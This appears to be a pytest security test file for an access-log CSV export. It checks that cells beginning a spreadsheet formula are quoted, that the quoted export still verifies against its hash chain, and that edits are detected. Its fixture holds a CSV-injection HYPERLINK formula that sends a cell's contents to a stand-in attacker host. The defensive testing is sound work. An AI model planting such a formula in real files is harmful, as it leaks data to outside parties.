"""The access log's CSV export cannot run a formula in the auditor's spreadsheet (CSV
injection), and still re-verifies offline: the quote it adds is taken off on reading."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from services.router.audit.access_log import GENESIS, check_chain, entry_hash
from services.router.audit.access_log_export import csv_header, csv_line, read_csv

pytestmark = pytest.mark.security

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"öppna")'


def chained(*fields: dict[str, Any]) -> list[dict[str, Any]]:
    entries, prev = [], GENESIS
    for seq, extra in enumerate(fields, start=1):
        entry: dict[str, Any] = {
            "seq": seq,
            "at": "2026-11-30T08:00:00.000000Z",
            "actor": "asa",
            "role": "operator",
            "kind": "admin-action",
            "pseudonym": None,
            "message_id": None,
            "reason": "why",
            **extra,
        }
        entry["prev_hash"] = prev
        entry["hash"] = prev = entry_hash(entry, prev)
        entries.append(entry)
    return entries


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_an_actor_or_reason_starting_a_formula_is_quoted():
    entries = chained(
        {"actor": HOSTILE},
        {"reason": HOSTILE},
        {"reason": "+46 70 123"},
        {"reason": "-1"},
        {"actor": "@SUM(A1)"},
        {"reason": "\tcmd"},
        {"reason": "\rcmd"},
    )
    text = csv_header() + "".join(csv_line(e) for e in entries)
    rows = cells(text)
    assert rows[0]["actor"] == "'" + HOSTILE
    assert rows[1]["reason"] == "'" + HOSTILE
    assert [r["reason"][0] for r in rows[2:4]] == ["'", "'"]
    assert rows[4]["actor"] == "'@SUM(A1)"
    assert rows[5]["reason"] == "'\tcmd" and rows[6]["reason"] == "'\rcmd"
    for row in rows:  # no cell of any row starts a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_the_quoted_export_still_verifies_offline_exactly():
    entries = chained({"actor": HOSTILE}, {"reason": "'already quoted"}, {"reason": "plain"})
    back = read_csv(csv_header() + "".join(csv_line(e) for e in entries))
    assert back[0]["actor"] == HOSTILE
    assert back[1]["reason"] == "'already quoted"  # a quote of its own survives
    report = check_chain(back)
    assert report.ok and report.checked == 3 and report.tail_hash == entries[-1]["hash"]


def test_an_edit_of_a_quoted_cell_is_still_found():
    entries = chained({"reason": HOSTILE}, {"reason": "plain"})
    text = csv_header() + "".join(csv_line(e) for e in entries)
    edited = text.replace("'" + HOSTILE.replace('"', '""'), "'=1+1")
    assert edited != text
    assert check_chain(read_csv(edited)).first_bad_seq == 1
